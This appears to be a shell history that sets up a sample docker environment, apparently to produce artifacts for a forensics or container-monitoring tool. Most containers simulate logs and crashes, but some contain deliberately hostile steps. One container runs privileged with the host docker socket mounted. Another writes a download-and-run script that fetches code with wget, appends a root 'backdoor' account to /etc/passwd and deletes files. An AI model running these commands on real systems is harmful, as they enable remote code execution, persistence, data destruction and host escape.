#1795713564
docker import -c 'CMD ["/bin/sh"]' -c 'ENV PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin' -m 'flotsam sample base (busybox-static)' /tmp/flotsam-sample-build/rootfs.tar bb:latest
#1795713564
docker tag bb:latest sample/web:1.0
#1795713564
docker volume create appdata
#1795713564
docker run -d --name web --restart unless-stopped -p 0.0.0.0:8080:80 --label com.docker.compose.project=shop --label com.docker.compose.service=web --label com.docker.compose.container-number=1 sample/web:1.0 sh -c 'i=0; while :; do i=$((i+1)); echo "GET /index.html 200 req=$i"; if [ $((i % 10)) -eq 0 ]; then echo "WARN upstream slow req=$i" >&2; fi; sleep 0.2; done'
#1795713565
docker run -d --name flappy --restart always bb:latest sh -c 'echo "flappy starting at $(date -u +%FT%TZ)"; sleep 1; echo "fatal: cannot connect to db" >&2; exit 1'
#1795713565
docker run --name job-ok bb:latest sh -c 'echo "job starting"; for i in 1 2 3; do echo "processing batch $i"; done; echo "job finished ok"'
#1795713566
docker run -d --name crasher bb:latest sh -c 'echo "crasher: starting"; echo "panic: runtime error: index out of range" >&2; echo "goroutine 1 [running]:" >&2; exit 3'
#1795713566
docker run -d --name priv --privileged --cap-add SYS_ADMIN --pid=host -v /var/run/docker.sock:/var/run/docker.sock bb:latest sh -c 'echo "uid=$(id -u) on $(hostname)"; ls -la /var/run/docker.sock; ps -o pid,comm | head -n 5; echo "escaping via docker.sock"; sleep 86400'
#1795713567
docker run -d --name rotator --log-opt max-size=10k --log-opt max-file=4 --log-opt compress=true bb:latest sh -c 'i=0; while [ $i -lt 1500 ]; do i=$((i+1)); echo "rotator line $i: lorem ipsum dolor sit amet"; done; echo "rotator finished" >&2'
#1795713568
docker run -d --name bigline bb:latest sh -c 'echo "bigline: before"; yes 0123456789 | head -n 4000 | tr -d "\n"; echo; echo "bigline: after"'
#1795713568
docker run -d --name vol -v appdata:/data bb:latest sh -c 'echo "customer-db v1" > /data/app.db; date -u +%FT%TZ > /data/written-at; ls -la /data'
#1795713569
docker run -d --name tamper bb:latest sh -c '
printf "#!/bin/sh\nwget -q -O- http://203.0.113.7/x | sh\n" > /tmp/evil.sh
chmod +x /tmp/evil.sh
echo "backdoor:x:0:0::/root:/bin/sh" >> /etc/passwd
rm -f /bin/sleep /etc/motd
rm -rf /opt/app
mkdir -p /opt/app
echo "replaced=1" > /opt/app/config
echo "tamper done"'
#1795713570
docker exec web touch /tmp/exec-was-here
#1795713570
docker exec web sh -c 'id; cat /etc/passwd'
#1795713570
docker run -d --name localdrv --log-driver local bb:latest sh -c 'for i in 1 2 3 4 5; do echo "local driver line $i"; done; echo "local driver stderr" >&2'
#1795713571
docker run -d --name gone bb:latest sh -c 'echo "gone: I was here"; echo "gone: deleting traces" >&2; sleep 3600'
#1795713573
docker rm -f gone
#1795713573
docker create --name nostart bb:latest echo 'never started'
